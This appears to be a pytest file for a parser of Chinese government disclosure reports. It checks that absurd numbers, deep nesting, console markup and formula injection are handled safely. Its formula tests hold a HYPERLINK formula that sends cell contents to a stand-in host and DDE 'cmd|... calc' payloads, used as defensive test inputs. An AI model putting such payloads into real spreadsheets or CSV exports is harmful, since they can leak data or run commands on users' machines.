"""Files we did not write: absurd numbers, markup in text, input problems vs our bugs, formulas in outputs.

Issue 12, items 1, 3, 4 and 5: every number is finite and bounded and every JSON strict;
document text is data, never console markup; input problems end with exit 2 and a Chinese
reason, exit 70 only for our bugs (with a crash report file); nothing we write to a
spreadsheet or a CSV runs as a formula.
"""

import csv
import io
import json
import sys
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from gongkai import review as rv
from gongkai.cli import app
from gongkai.errors import GongkaiError
from gongkai.fileio import csv_text, from_csv_text, json_text
from gongkai.ingest import read_bytes
from gongkai.parse import parse_bytes
from gongkai.render import render
from gongkai.report import Report
from gongkai.values import parse_number

from .conftest import CORPUS, SEEDS
from .test_roundtrip import generated

runner = CliRunner()
PIPE = CORPUS / "gold" / "gb2021-2023-1.pipe.txt"  # 行政事业性收费 2010.25, 本年新收 … 2012 2013 …
BIG_DECIMAL = "9" * 300 + ".5"
BIG_INT = "1" * 5000


def invoke(*args):
    return runner.invoke(app, [str(a) for a in args])


def strict(text: str):
    def refuse(name):
        raise ValueError(name)

    return json.loads(text, parse_constant=refuse)


def hostile_text() -> str:
    text = PIPE.read_text(encoding="utf-8")
    text = text.replace("| 2010.25 |", f"| {BIG_DECIMAL} |").replace("| 2013 |", f"| {BIG_INT} |")
    return text.replace("| 行政规范性文件 |", "| [/evil]行政规范性文件:smile: |")


# ------------------------------------------------------------------ item 1: numbers bounded


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("123456789012345", 123456789012345),
        ("1234567890123456", None),
        ("0.1234567890", Decimal("0.1234567890")),
        ("0.12345678901", None),
        (BIG_DECIMAL, None),
        (BIG_INT, None),
        ("-" + "9" * 16, None),
    ],
)
def test_numbers_past_any_statistic_are_invalid_not_huge(text, value):
    n = parse_number(text)
    assert n is not None and n.value == value and n.invalid == (value is None)


def test_an_absurd_number_is_a_null_cell_and_an_issue():
    report = parse_bytes(hostile_text().encode(), "r.txt", ".txt")
    assert report.cells["t2.fees.amount_wan"] is None
    assert report.cells["t3.new.research"] is None
    assert report.cells["t3.new.nonprofit"] == 2014  # the row's other numbers stay in their columns
    said = [i for i in report.issues if i.code == "number-invalid"]
    assert len(said) == 2 and all(i.severity == "warning" for i in said)
    fee = next(i for i in said if "行政事业性收费" in i.message)
    assert "999999999999999999999999…（共302个字符）" in fee.message and fee.place
    assert any("（共5000个字符）" in i.message and "本年新收" in i.message for i in said)
    strict(report.to_json())


def test_parse_cells_prints_strict_json_for_absurd_numbers(tmp_path):
    src = tmp_path / "r.txt"
    src.write_text(hostile_text(), encoding="utf-8")
    result = invoke("parse", src, "--cells")
    assert result.exit_code == 0, result.output
    d = strict(result.stdout)
    assert d["cells"]["t2.fees.amount_wan"] is None
    assert "Infinity" not in result.stdout


@pytest.mark.parametrize("bad", ["NaN", "Infinity", "-Infinity", "1e400", BIG_INT, "1" * 16, "1e-400", "0." + "1" * 30])
@pytest.mark.parametrize("command", ["check", "render"])
def test_a_report_json_with_an_unbounded_number_is_refused(tmp_path, bad, command):
    d = generated("gb2021").to_dict()
    d["cells"]["t3.new.total"] = "@BAD@"
    src = tmp_path / "r.json"
    src.write_text(json.dumps(d, ensure_ascii=False).replace('"@BAD@"', bad), encoding="utf-8")
    args = ("check", src) if command == "check" else ("render", src, "-o", tmp_path / "o.md")
    result = invoke(*args)
    assert result.exit_code == 2, result.output
    assert "r.json" in result.stderr and ("t3.new.total" in result.stderr or bad in ("NaN", "Infinity", "-Infinity"))
    assert "Traceback" not in result.output and not (tmp_path / "o.md").exists()


def test_a_deeply_nested_report_json_is_refused(tmp_path):
    src = tmp_path / "r.json"
    src.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    result = invoke("check", src)
    assert result.exit_code == 2 and "嵌套过深" in result.stderr


@pytest.mark.parametrize(
    ("field", "value", "words"),
    [
        ("sections", 5, "sections"),
        ("issues", {"a": 1}, "issues"),
        ("year", "二〇二三", "年度"),
        ("agency", ["某局"], "agency"),
    ],
)
def test_a_report_json_of_the_wrong_shape_is_refused(tmp_path, field, value, words):
    d = generated("gb2021").to_dict() | {field: value}
    src = tmp_path / "r.json"
    src.write_text(json.dumps(d, ensure_ascii=False), encoding="utf-8")
    result = invoke("check", src)
    assert result.exit_code == 2 and words in result.stderr


def test_json_we_write_is_strict():
    with pytest.raises(ValueError):
        json_text({"x": float("nan")})
    with pytest.raises(ValueError):
        json_text({"x": Decimal("1e400")})
    assert json_text({"x": Decimal("0.25"), "y": Decimal("12")}) == '{"x": 0.25, "y": 12}'


def test_the_narrative_check_ignores_a_count_of_thousands_of_digits():
    text = PIPE.read_text(encoding="utf-8").replace(
        "2023年，荆州市生态环境局坚持", f"2023年，本机关共收到政府信息公开申请{BIG_INT}件，坚持"
    )
    report = parse_bytes(text.encode(), "r.txt", ".txt")
    assert not [i for i in report.issues if i.code == "narrative-mismatch" and "1111" in i.message]


# ------------------------------------------------------------------ item 3: text is data


def test_markup_in_a_label_and_a_path_is_printed_as_text(tmp_path):
    folder = tmp_path / "a["  # the path reads …/a[/b].txt: a closing tag with no opening one
    folder.mkdir()
    src = folder / "b].txt"
    src.write_text(hostile_text(), encoding="utf-8")
    result = invoke("check", src)
    assert result.exit_code in (0, 1), result.output
    assert "a[/b].txt" in result.stdout and "Traceback" not in result.output
    result = invoke("parse", src)
    assert "a[/b].txt" in result.stdout and result.exit_code == 0
    missing = invoke("check", tmp_path / "[/x]" / ":smile:.txt")
    assert missing.exit_code == 2 and "[/x]/:smile:.txt" in missing.stderr


def test_markup_in_an_issue_message_is_printed_as_text(tmp_path):
    report = generated("gb2021")
    report.agency = "[/b]某局:smile:"
    report.cells["t3.new.total"] = 1  # an arithmetic error: the issue table is printed
    src = tmp_path / "[b]r.json"
    src.write_text(report.to_json(), encoding="utf-8")
    result = invoke("check", src)
    assert result.exit_code == 1, result.output
    assert "[/b]某局:smile:" in result.stdout and "[b]r.json" in result.stdout


@pytest.fixture
def data_dir(tmp_path, monkeypatch):
    monkeypatch.setenv("GONGKAI_DATA_DIR", str(tmp_path / "data"))
    return tmp_path / "data"


def test_our_bug_is_exit_70_with_a_crash_report(monkeypatch, capsys, data_dir):
    import gongkai.cli as cli

    secret = "秘" + "密"  # not in this file's source lines, which a crash report does show

    def boom(**_kw):
        raise KeyError(f"[/evil] 某某局的{secret}")

    monkeypatch.setattr(cli, "app", boom)
    monkeypatch.setattr(sys, "argv", ["gongkai", "check", "报告[/b].txt"])
    with pytest.raises(SystemExit) as e:
        cli.main()
    assert e.value.code == 70
    err = capsys.readouterr().err
    assert "内部错误" in err and "KeyError" in err and "不是输入文件的问题" in err
    reports = list((data_dir / "crash-reports").glob("gongkai-crash-*.txt"))
    assert len(reports) == 1 and str(reports[0]) in err.replace("\n", "")
    text = reports[0].read_text(encoding="utf-8")
    assert "gongkai check 报告[/b].txt" in text and "boom" in text and "KeyError" in text
    assert "秘密" not in text  # no document content: exception messages are left out


def test_the_crash_report_goes_to_the_temp_dir_when_the_data_dir_is_not_writable(tmp_path, monkeypatch):
    from gongkai import crash

    blocked = tmp_path / "file"
    blocked.write_text("")
    monkeypatch.setenv("GONGKAI_DATA_DIR", str(blocked / "data"))
    monkeypatch.setattr(crash.tempfile, "gettempdir", lambda: str(tmp_path))
    try:
        raise ValueError("x") from ZeroDivisionError("y")
    except ValueError as e:
        path = crash.write_report(e, ["gongkai", "parse"])
    assert path is not None and path.parent == tmp_path
    assert "ZeroDivisionError" in path.read_text(encoding="utf-8")


# ------------------------------------------------------------------ item 4: input problems are exit 2


def test_calendar_import_of_a_hostile_toml_is_exit_2(tmp_path, data_dir):
    cases = {
        "deep.toml": ("x = " + "[" * 100_000 + "]" * 100_000).encode(),
        "digits.toml": ("year = " + BIG_INT).encode(),
        "utf16.toml": "year = 2030\n".encode("utf-16"),
    }
    for name, data in cases.items():
        path = tmp_path / name
        path.write_bytes(data)
        result = invoke("calendar", "import", path)
        assert result.exit_code == 2, (name, result.output)
        assert name in result.stderr and "Traceback" not in result.output
    assert "第1行第" in invoke("calendar", "import", tmp_path / "deep.toml").stderr


def _docx_bytes() -> bytes:
    return (CORPUS / "gold" / "gb2021-2023-1.docx").read_bytes()


@pytest.mark.parametrize("field", [b"\xff\xff", b"\x40\x00"])  # 6.4 and later: zipfile knows up to 6.3
def test_a_docx_with_a_bad_zip_version_is_an_input_problem(field):
    data = bytearray(_docx_bytes())
    at = data.index(b"PK\x01\x02")
    data[at + 6 : at + 8] = field  # version needed to extract, in the central directory
    with pytest.raises(GongkaiError, match="版本号或压缩方式"):
        read_bytes(bytes(data), "r.docx", ".docx")


def test_a_docx_span_of_thousands_of_digits_is_read():
    src = zipfile.ZipFile(io.BytesIO(_docx_bytes()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "word/document.xml":
                data = data.replace(b"<w:tcPr>", b'<w:tcPr><w:gridSpan w:val="' + BIG_INT.encode() + b'"/>', 1)
            z.writestr(info, data)
    read_bytes(out.getvalue(), "r.docx", ".docx")  # no ValueError from int()


def test_an_html_number_of_thousands_of_digits_is_an_input_problem():
    page = f'<html><body><table><tr><td rowspan="{BIG_INT}">规章</td><td>1</td></tr></table></body></html>'
    try:
        read_bytes(page.encode(), "r.html", ".html")
    except GongkaiError as e:
        assert "r.html" in str(e)


def test_a_deeply_nested_page_is_an_input_problem_or_read():
    page = "<html><body>" + "<div>" * 100_000 + "规章" + "</div>" * 100_000 + "</body></html>"
    try:
        read_bytes(page.encode(), "r.html", ".html")
    except GongkaiError as e:
        assert "r.html" in str(e)


# ------------------------------------------------------------------ item 5: no live formulas

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
NASTY_NAME = "=cmd|' -C calc'!A0.txt"


@pytest.mark.parametrize(
    "text", [FORMULA, "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''+x", "'plain", "plain", "", "-"]
)
def test_csv_text_reads_back_exactly(text):
    written = csv_text(text)
    assert from_csv_text(written) == text
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r")) or written == text == ""


def test_numbers_stay_numbers_in_csv():
    assert csv_text(-5) == -5 and csv_text(0.25) == 0.25


def test_render_xlsx_writes_formula_text_as_text(tmp_path):
    report = generated("gb2021")
    report.agency = "+cmd|' /C calc'!A0"
    report.sections["s1"] = FORMULA
    book = load_workbook(io.BytesIO(render(report, "xlsx")))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert FORMULA in texts and "+cmd|' /C calc'!A0" in texts
    total = report.cells["t3.new.total"]
    assert any(c.data_type == "n" and c.value == total for c in cells)  # numbers stay numbers


@pytest.fixture
def nasty_folder(tmp_path):
    folder = tmp_path / "reports"
    folder.mkdir()
    (folder / NASTY_NAME).write_bytes((SEEDS / "000_5ac34f26426a2d27.txt").read_bytes())
    (folder / "@SUM(1).txt").write_text("不是年度报告", encoding="utf-8")
    return folder


def test_review_csv_quotes_formula_text_and_reads_it_back(nasty_folder, tmp_path):
    out = tmp_path / "review.csv"
    rv.review(nasty_folder, out, jobs=0)
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    names = [r[0] for r in rows[1:]]
    assert sorted(names) == sorted(["'" + NASTY_NAME, "'@SUM(1).txt"])
    assert not [v for r in rows for v in r if v.startswith(("=", "+", "@"))]
    again = rv.review(nasty_folder, out, jobs=0, resume=True)
    assert again.parsed == ["@SUM(1).txt"]  # only the unreadable file is tried again: the name read back exactly
    assert {e.file for e in again.entries} == {NASTY_NAME, "@SUM(1).txt"}


def test_review_xlsx_and_jsonl_keep_formula_text_as_text(nasty_folder, tmp_path):
    rv.review(nasty_folder, tmp_path / "review.xlsx", jobs=0)
    book = load_workbook(tmp_path / "review.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    assert NASTY_NAME in {c.value for c in cells}
    rv.review(nasty_folder, tmp_path / "review.jsonl", jobs=0)
    lines = (tmp_path / "review.jsonl").read_text(encoding="utf-8").splitlines()
    assert {strict(line)["file"] for line in lines} == {NASTY_NAME, "@SUM(1).txt"}


def test_a_report_json_round_trips_hostile_text():
    report = generated("gb2019")
    report.sections["s2"] = FORMULA + "\n[/evil]"
    report.agency = "\x1b[31m某局\u202e"
    back = Report.from_json(report.to_json())
    assert back.sections["s2"] == report.sections["s2"] and back.agency == report.agency


@pytest.mark.parametrize("bad", ["\x00", "\x0b", "\x1b[31m", "\ufffe"])
def test_control_characters_from_a_document_do_not_stop_a_docx(bad):
    report = generated("gb2021")
    report.sections["s1"] = f"开头{bad}结尾"
    report.agency = f"某局{bad}"
    for kind in ("md", "html", "docx", "xlsx", "json"):
        assert render(report, kind)


def test_a_lone_surrogate_in_a_report_json_is_refused(tmp_path):
    src = tmp_path / "r.json"
    src.write_text(generated("gb2021").to_json().replace('"s1": "', '"s1": "\\ud800', 1), encoding="utf-8")
    result = invoke("render", src, "-o", tmp_path / "o.docx")
    assert result.exit_code == 2 and "sections.s1" in result.stderr


@pytest.mark.parametrize("charset", ["base64", "rot13", "zlib"])
def test_a_page_declaring_a_codec_that_is_no_text_encoding_is_an_input_problem(charset):
    page = f'<html><head><meta charset="{charset}"></head><body><p>一、总体情况</p></body></html>'
    try:
        read_bytes(page.encode(), "r.html", ".html")
    except GongkaiError as e:
        assert "r.html" in str(e)
        assert "不是文字编码" in str(e) or "字符集" in str(e) or "编码" in str(e)


def test_a_type_error_inside_pillow_is_a_damaged_image_but_ours_is_a_bug(monkeypatch):
    from PIL import Image

    from gongkai.ingest import scan

    png = (CORPUS / "scan" / "no-table.png").read_bytes()
    monkeypatch.setattr(scan, "read_image", lambda data, source: Image.new("L", (2, 2)).point(5))
    with pytest.raises(GongkaiError, match="图片文件已损坏"):
        read_bytes(png, "p.png", ".png")

    def ours(data, source):
        raise TypeError("a bug of ours")

    monkeypatch.setattr(scan, "read_image", ours)
    with pytest.raises(TypeError):
        read_bytes(png, "p.png", ".png")
